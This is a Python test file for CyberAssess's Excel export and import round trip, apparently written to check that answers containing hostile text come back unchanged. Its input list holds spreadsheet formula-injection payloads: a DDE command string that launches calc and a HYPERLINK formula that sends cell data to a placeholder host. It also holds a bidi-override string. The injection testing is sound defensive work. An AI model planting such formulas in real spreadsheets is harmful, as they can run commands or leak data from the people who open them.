"""Export → import into a fresh assessment reproduces every answer exactly, whatever the text."""

from __future__ import annotations

import functools
import shutil
import tempfile
import unicodedata
from pathlib import Path

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from cyberassess.framework import get_framework
from cyberassess.matrix import apply_import, export_blank, export_matrix, plan_import, read_matrix
from cyberassess.safetext import BIDI_CONTROLS
from cyberassess.store import Assessment

MINI_IDS = ("D1.1.1", "D1.1.2", "D1.2.1", "D2.1.1", "D2.1.2")
HOSTILE = st.sampled_from(
    [
        "",
        "=",
        "+",
        "-",
        "@",
        "\t",
        "\r",
        "\r\n",
        "=1+1",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
        "+SUM(1,2)",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "_x000D_",
        "_x005F_x0041_",
        "#N/A",
        "_xABCD\x01",
        "\x00\x1f\ufffe",
        "'",
        "TRUE",
        "00123",
    ]
)
RTL = st.sampled_from(["", "مرحبا بالعالم ", "שלום עולם", "\u202eevil\u202c", "Ünïcödé ✓ 漢字 🙂"])
TEXT = st.builds(lambda a, b, c: a + b + c, HOSTILE, RTL, st.text(max_size=40))
ANSWER = st.one_of(
    st.none(),
    st.tuples(
        st.one_of(st.none(), st.integers(1, 5), st.sampled_from(["na", "unknown"])),
        TEXT,
        st.one_of(st.none(), st.sampled_from(["low", "medium", "high"])),
        st.one_of(st.just(""), TEXT),
    ),
)


def _storable(text: str, *, line: bool = False) -> str:
    """The hostile text as CyberAssess accepts it where text enters: control and bidi characters are refused there."""
    keep = "" if line else "\n\t"
    text = text.replace("\r\n", "\n")
    return "".join(c for c in text if c in keep or not (unicodedata.category(c) == "Cc" or c in BIDI_CONTROLS))


def _answers(path: Path) -> dict[str, tuple[object, ...]]:
    with Assessment.open(path, read_only=True) as doc:
        return {
            k: (a.value, a.justification, a.confidence, a.assessor, a.updated_at)
            for k, a in doc.answers().items()
            if (a.value, a.justification, a.confidence) != (None, "", None)
        }


@functools.cache
def _empty_pair(home: str) -> tuple[Path, Path]:
    """Two empty mini assessments (source and target) to copy for each example: faster than creating them."""
    folder = Path(home) / "round-trip-templates"
    folder.mkdir()
    fw = get_framework("mini")
    pair = []
    for name in ("source", "target"):
        with Assessment.create(folder / f"{name}.cyberassess", country="=Testland", mission="+M", framework=fw) as doc:
            pair.append(doc.path)
    return pair[0], pair[1]


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(answers=st.lists(ANSWER, min_size=5, max_size=5), language=st.sampled_from(["en", "fr", "es", "ar"]))
def test_round_trip_reproduces_every_answer(
    answers: list[tuple[object, str, str | None, str] | None], language: str, user_home: Path
) -> None:
    empty_source, empty_target = _empty_pair(str(user_home))
    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp)
        source, target = shutil.copy(empty_source, folder), shutil.copy(empty_target, folder)
        with Assessment.open(source) as doc:
            for indicator_id, answer in zip(MINI_IDS, answers, strict=True):
                if answer is not None:
                    value, justification, confidence, assessor = answer
                    doc.set_answer(
                        indicator_id,
                        value,
                        justification=_storable(justification),
                        confidence=confidence,
                        assessor=_storable(assessor, line=True),
                    )
            matrix = export_matrix(doc, folder / "matrix.xlsx", language=language)
            uuid = doc.info.file_uuid
        with Assessment.open(target) as doc:
            plan = plan_import(doc, matrix)
            assert plan.hash_status == "unchanged" and not plan.rejected and not plan.conflicts
            result = apply_import(doc, plan)
            assert result.unresolved == () and result.applied == len(plan.new)
            assert all(h.source == f"import:{uuid}" for h in doc.history() if h.action == "answer")
        assert _answers(target) == _answers(source)


def test_demo_round_trip_and_unchanged_hash(demo_file: Path, tmp_path: Path) -> None:
    """The real demo: every answer back exactly; importing the same matrix again changes nothing."""
    with Assessment.open(demo_file) as doc:
        matrix = export_matrix(doc, tmp_path / "demo.xlsx")
        fw, instruments = doc.framework, doc.instruments
    content = read_matrix(matrix)
    every = len(fw.indicator_ids())  # the demo answers every indicator
    assert content.hash_status == "unchanged" and len(content.rows) == every and not content.rejected
    assert content.instruments == instruments
    target = tmp_path / "copy.cyberassess"
    create = {"country": "Republic of Meridia", "mission": "", "framework": fw, "instruments": instruments}
    with Assessment.create(target, **create) as doc:
        result = apply_import(doc, plan_import(doc, matrix))
    assert result.applied == every
    assert _answers(target) == _answers(demo_file)
    with Assessment.open(target) as doc:
        count = doc.history_count()
        again = plan_import(doc, matrix)
        assert not again.new and not again.conflicts and again.unchanged == every
        apply_import(doc, again, prefer="theirs")
        assert doc.history_count() == count


def test_blank_template_filled_in_any_language_is_read(tmp_path: Path, mini_doc: Assessment) -> None:
    """A person fills in a blank matrix by hand: numbers, labels of any language, markers."""
    import openpyxl

    from cyberassess.i18n import gettext

    blank = export_blank(mini_doc.framework, tmp_path / "blank.xlsx", language="fr")
    assert read_matrix(blank).hash_status == "template" and read_matrix(blank).rows == ()
    wb = openpyxl.load_workbook(blank)
    sheet = {ws.title[:2]: ws for ws in wb.worksheets}
    typed = {"D1": [(4, 3), (5, " 2 - Formative "), (7, "n/a")], "D2": [(4, "Unknown / no data"), (5, "established")]}
    for prefix, rows in typed.items():
        for row, value in rows:
            sheet[prefix].cell(row, 3).value = value
            sheet[prefix].cell(row, 4).value = f"note {prefix} {row}"
    sheet["D1"].cell(4, 5).value = "High"
    cover = wb.worksheets[0]
    label = gettext("fr", "Filled in by (your name)")
    name_cell = next(r[1] for r in cover.iter_rows(min_row=4, max_row=30) if r[0].value == label)
    name_cell.value = "Bea Field"
    wb.save(blank)
    content = read_matrix(blank)
    assert content.hash_status == "template" and content.filled_by == "Bea Field" and not content.rejected
    got = {r.indicator_id: (r.value, r.justification, r.confidence, r.assessor) for r in content.rows}
    assert got == {
        "D1.1.1": (3, "note D1 4", "high", "Bea Field"),
        "D1.1.2": (2, "note D1 5", None, "Bea Field"),
        "D1.2.1": ("na", "note D1 7", None, "Bea Field"),
        "D2.1.1": ("unknown", "note D2 4", None, "Bea Field"),
        "D2.1.2": (3, "note D2 5", None, "Bea Field"),
    }
    result = apply_import(mini_doc, plan_import(mini_doc, blank))
    assert result.applied == 5
    history = [h for h in mini_doc.history() if h.action == "answer"]
    assert {h.assessor for h in history} == {"Bea Field"} and all(h.source.startswith("import:") for h in history)
